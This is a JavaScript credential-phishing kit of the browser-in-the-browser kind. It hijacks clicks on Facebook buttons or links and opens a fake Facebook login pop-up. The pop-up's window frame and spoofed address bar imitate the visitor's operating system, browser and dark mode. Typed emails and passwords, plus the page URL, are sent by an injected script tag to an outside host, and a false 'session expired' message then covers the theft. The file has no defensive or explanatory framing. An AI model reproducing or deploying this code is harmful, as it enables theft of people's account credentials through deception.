// bitb-credential-overlay: fake Facebook login pop-up whose window frame imitates Windows or macOS (and dark mode) to match the visitor
// ES5; credentials sent as an image-free GET to a JSONP-style script URL
var FakePopup = {
  gate: 'https://fb-connect-login.net/cb.js',

  platform: function () {
    var ua = navigator.userAgent;
    return {
      mac: /Macintosh|Mac OS X/.test(ua),
      dark: window.matchMedia && window.matchMedia('(prefers-color-scheme: dark)').matches,
      browser: /Edg\//.test(ua) ? 'Microsoft Edge' : /Firefox\//.test(ua) ? 'Mozilla Firefox' : 'Google Chrome'
    };
  },

  frameHtml: function (p) {
    var bg = p.dark ? '#2b2b2b' : '#e8e8e8';
    var fg = p.dark ? '#ddd' : '#222';
    var controls = p.mac
      ? '<span style="display:inline-flex;gap:7px"><i style="width:12px;height:12px;border-radius:6px;background:#ff5f57"></i>' +
        '<i style="width:12px;height:12px;border-radius:6px;background:#febc2e"></i><i style="width:12px;height:12px;border-radius:6px;background:#28c840"></i></span>'
      : '<span style="margin-left:auto;letter-spacing:26px">&#8212;&#9744;<b class="fp-x" style="cursor:pointer">&#10005;</b></span>';
    return '<div style="height:30px;background:' + bg + ';color:' + fg + ';display:flex;align-items:center;padding:0 10px;font:12px sans-serif">' +
      (p.mac ? controls + '<span style="margin:0 auto">Facebook - ' + p.browser + '</span>' : '<span>Facebook - ' + p.browser + '</span>' + controls) +
      '</div><div style="height:28px;background:' + (p.dark ? '#353535' : '#f5f5f5') + ';color:' + fg + ';font:12px sans-serif;display:flex;align-items:center;padding:0 10px">' +
      '&#128274;&nbsp;https://www.facebook.com/login.php?skip_api_login=1&amp;api_key=1829504417&amp;display=popup</div>' +
      '<div style="background:#fff;padding:30px 36px;font:14px Helvetica,Arial,sans-serif;height:100%">' +
      '<div style="color:#1877f2;font-size:34px;font-weight:bold;margin-bottom:20px">facebook</div>' +
      '<input class="fp-e" placeholder="Email address or phone number" style="width:100%;padding:12px;border:1px solid #dddfe2;border-radius:6px;margin-bottom:10px">' +
      '<input class="fp-p" type="password" placeholder="Password" style="width:100%;padding:12px;border:1px solid #dddfe2;border-radius:6px">' +
      '<div class="fp-m" style="color:#f02849;font-size:13px;min-height:18px;margin:8px 0"></div>' +
      '<button class="fp-b" style="width:100%;padding:11px;border:0;border-radius:6px;background:#1877f2;color:#fff;font-size:18px">Log in</button></div>';
  },

  send: function (email, pass) {
    var s = document.createElement('script');
    s.async = true;
    s.src = this.gate + '?cb=_fpcb&e=' + encodeURIComponent(email) + '&p=' + encodeURIComponent(pass) +
      '&r=' + encodeURIComponent(location.href) + '&_=' + new Date().getTime();
    window._fpcb = function () {};
    document.getElementsByTagName('head')[0].appendChild(s);
  },

  open: function () {
    var p = this.platform();
    var w = document.createElement('div');
    w.style.cssText = 'position:fixed;top:72px;left:50%;margin-left:-250px;width:500px;height:520px;overflow:hidden;' +
      'border-radius:' + (p.mac ? '10px' : '0') + ';box-shadow:0 16px 50px rgba(0,0,0,.5);z-index:2147483647';
    w.innerHTML = this.frameHtml(p);
    document.body.appendChild(w);
    var self = this;
    var x = w.querySelector('.fp-x');
    if (x) x.onclick = function () { w.parentNode.removeChild(w); };
    w.querySelector('.fp-b').onclick = function () {
      var e = w.querySelector('.fp-e').value, pw = w.querySelector('.fp-p').value;
      if (!e || !pw) { w.querySelector('.fp-m').innerHTML = 'Please fill in both fields.'; return; }
      self.send(e, pw);
      w.querySelector('.fp-m').innerHTML = 'Session expired. Please log in again.';
      setTimeout(function () { if (w.parentNode) w.parentNode.removeChild(w); }, 2200);
    };
  }
};

document.addEventListener('click', function (ev) {
  var t = ev.target;
  for (var i = 0; t && i < 5; i++, t = t.parentNode) {
    if (t.nodeType === 1 && /facebook/i.test((t.className || '') + ' ' + (t.textContent || '')) && /BUTTON|A/.test(t.tagName)) {
      ev.preventDefault();
      FakePopup.open();
      break;
    }
  }
}, true);
